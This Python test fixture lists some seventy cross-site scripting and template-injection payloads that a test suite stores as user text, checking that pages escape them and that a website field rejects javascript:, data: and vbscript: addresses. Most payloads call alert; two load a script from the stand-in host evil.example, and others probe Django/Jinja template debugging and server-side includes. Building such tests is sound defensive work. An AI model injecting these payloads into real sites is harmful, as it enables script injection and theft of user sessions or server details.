"""Cross-site scripting payloads in the styles filters miss, for tests/test_xss.py.

Each one, if it ever came out of a page live, would run `alert` or load something: case
mixing, broken and nested tags, entity-encoded and whitespace-split `javascript:`/`data:`
addresses, SVG and MathML, attribute break-outs, `</script>` break-outs (aimed at the
JSON-LD), template syntax, and Unicode tricks (overrides, full-width and zero-width
characters). The tests store them as reader text and parse every page that shows it.
"""

PAYLOADS = [
    # Plain and case-mixed script tags.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/XSS SRC=http://evil.example/x.js></SCRIPT>",
    "<script\x20type='text/javascript'>alert(3)</script>",
    # Broken, nested and unclosed tags.
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<<script>alert(5);//<</script>",
    "<img src=x onerror=alert(6)//",
    "<img src=x onerror=alert(7)",
    "<iframe src=javascript:alert(8)",
    "<</p>iframe src=javascript:alert(9)//<</p>/iframe>",
    # Event handlers.
    '<img src=x onerror="alert(10)">',
    "<IMG SRC=x OnErRoR=alert(11)>",
    "<body onload=alert(12)>",
    "<details open ontoggle=alert(13)>",
    "<input autofocus onfocus=alert(14)>",
    "<video><source onerror=alert(15)></video>",
    "<marquee onstart=alert(16)>x</marquee>",
    "<div onmouseover\x0b=alert(17)>hover</div>",
    "<img/src=x/onerror=alert(18)>",
    # javascript:, data: and vbscript: addresses, split and encoded.
    '<a href="javascript:alert(19)">click</a>',
    '<a href="JaVaScRiPt:alert(20)">click</a>',
    '<a href=" javascript:alert(21)">click</a>',
    '<a href="java\tscript:alert(22)">click</a>',
    '<a href="java&#x09;script:alert(23)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(24)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(25)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyNik8L3NjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(27)">x</a>',
    "javascript:alert(28)",
    "data:text/html,<script>alert(29)</script>",
    "<iframe srcdoc='<script>alert(30)</script>'></iframe>",
    '<object data="data:text/html,<script>alert(31)</script>"></object>',
    '<embed src="javascript:alert(32)">',
    '<form action="javascript:alert(33)"><button>go</button></form>',
    '<button formaction="javascript:alert(34)">go</button>',
    # SVG and MathML.
    "<svg onload=alert(35)>",
    "<svg><script>alert(36)</script></svg>",
    '<svg><a xlink:href="javascript:alert(37)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(38) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(39)">',
    '<math href="javascript:alert(40)">click</math>',
    # Attribute break-outs.
    '"><script>alert(41)</script>',
    "'><img src=x onerror=alert(42)>",
    '" onmouseover="alert(43)',
    "' autofocus onfocus='alert(44)",
    '`"><svg/onload=alert(45)>',
    # Closing elements they might be echoed into.
    "</textarea><script>alert(46)</script>",
    "</title><script>alert(47)</script>",
    "</style><script>alert(48)</script>",
    # </script> break-outs, for anything inside a script element (JSON-LD).
    "</script><script>alert(49)</script>",
    "</ScRiPt ><img src=x onerror=alert(50)>",
    "<!--<script>alert(51)</script>-->",
    '"}</script><script>alert(52)</script>',
    # Template syntax (Django, Jinja, Angular) and server-side includes.
    "{{ request.META }}{% debug %}",
    "{{constructor.constructor('alert(54)')()}}",
    "${alert(55)}",
    '<!--#exec cmd="alert(56)"-->',
    # Unicode tricks.
    "\u202e<script>alert(57)</script>",
    "\uff1cscript\uff1ealert(58)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(59)</scr\u200bipt>",
    '<a href="java\u200bscript:alert(60)">x</a>',
    "<img src=x onerror=\\u0061lert(61)>",
    # CSS.
    '<div style="background:url(javascript:alert(62))">x</div>',
    "<style>@import 'javascript:alert(63)';</style>",
    '<link rel=stylesheet href="javascript:alert(64)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(65)">',
    '<base href="javascript:alert(66)//">',
]

# Addresses for the website field: the form must refuse every one, and a stored one must
# never become a live link.
URL_PAYLOADS = [
    "javascript:alert(101)",
    "JavaScript:alert(102)",
    " javascript:alert(103)",
    "java\tscript:alert(104)",
    "javascript&colon;alert(105)",
    "data:text/html,<script>alert(106)</script>",
    "vbscript:msgbox(107)",
    'https://example.com/"><script>alert(108)</script>',
    "https://example.com/' onmouseover='alert(109)",
]
